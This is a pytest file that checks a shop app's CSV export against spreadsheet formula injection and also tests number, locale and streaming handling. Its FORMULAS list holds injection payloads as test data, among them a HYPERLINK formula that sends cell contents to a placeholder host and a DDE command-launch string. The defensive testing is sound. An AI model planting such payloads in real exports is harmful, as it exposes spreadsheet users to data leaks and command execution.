"""Tables for a spreadsheet: text stays text, numbers stay numbers, whatever somebody wrote (T08)."""

import csv
import io
from collections.abc import Iterator, Sequence
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest

from shopapp.files.tables import ROWS_AT_ONCE, as_text, csv_bytes
from shopapp.queries.tables import Cell, Table

FORMULAS = [
    '=HYPERLINK("http://192.0.2.1/?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    '"=1+1',
    "\u200b=1+1",
    "\ufeff=1+1",
    "\x00=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠A1",
    "x;=1+1",
    "x\t=1+1",
    "x,=1+1",
    "x|=1+1",
    "x\n=1+1",
    'x;  "=1+1',
    "-5",
    "+1 604 555 0142",
]
PLAIN = ["Aud Nilsen", "2 = 2", "O'Brien", "a-b", "aud@shop.example", "12 V; 3 A", "Größe №5", ""]


def file_of(rows: Sequence[Sequence[Cell]], *, locale: str = "en_CA") -> str:
    table = Table(name="rows", columns=("A", "B"), rows=iter(rows))
    return b"".join(csv_bytes(table, locale=locale, time_zone="America/Vancouver")).decode()


def read(text: str, *, delimiter: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""), delimiter=delimiter))


@pytest.mark.parametrize("text", FORMULAS)
def test_no_cell_begins_a_formula_t08(text: str) -> None:
    """However a program parts the cells: each piece, without what programs cut off, begins with no sign."""
    cell = read(file_of([[text, "x"]]))[1][0]

    pieces = cell.replace("\n", "\t").replace("\r", "\t")
    for mark in ",;|":
        pieces = pieces.replace(mark, "\t")
    for piece in pieces.split("\t"):
        assert piece.strip(' "\u200b\u2060\ufeff')[:1] not in tuple("=+-@＝＋－＠")
    assert cell[:1] not in ("\t", "\r", "\n")


@pytest.mark.parametrize("text", PLAIN)
def test_plain_text_is_written_as_it_is(text: str) -> None:
    assert as_text(text) == text


def test_numbers_stay_numbers() -> None:
    rows: list[list[Cell]] = [[Decimal("-12.50"), -3], [Decimal("0.0001"), True], [None, date(2026, 6, 2)]]

    assert read(file_of(rows))[1:] == [["-12.50", "-3"], ["0.0001", "yes"], ["", "2026-06-02"]]


def test_moments_are_the_shops_own() -> None:
    assert read(file_of([[datetime(2026, 6, 2, 2, 30, tzinfo=UTC), ""]]))[1][0] == "2026-06-01 19:30"


def test_locale_with_a_decimal_comma_parts_by_semicolons() -> None:
    text = file_of([[Decimal("-1234.50"), "a, b"]], locale="de_DE")

    assert read(text, delimiter=";")[1] == ["-1234,50", "a, b"]


def test_file_begins_with_the_mark_and_keeps_every_letter() -> None:
    text = file_of([["Æsa Øster", 'says "no"']])

    assert text == '\ufeff"A","B"\r\n"Æsa Øster","says ""no"""\r\n'


def test_rows_are_asked_for_as_they_are_sent() -> None:
    asked: list[int] = []

    def rows() -> Iterator[Sequence[Cell]]:
        for number in range(3 * ROWS_AT_ONCE):
            asked.append(number)
            yield [number, ""]

    pieces = csv_bytes(Table(name="rows", columns=("A", "B"), rows=rows()), locale="en_CA", time_zone="UTC")
    next(pieces)
    next(pieces)

    assert len(asked) == ROWS_AT_ONCE
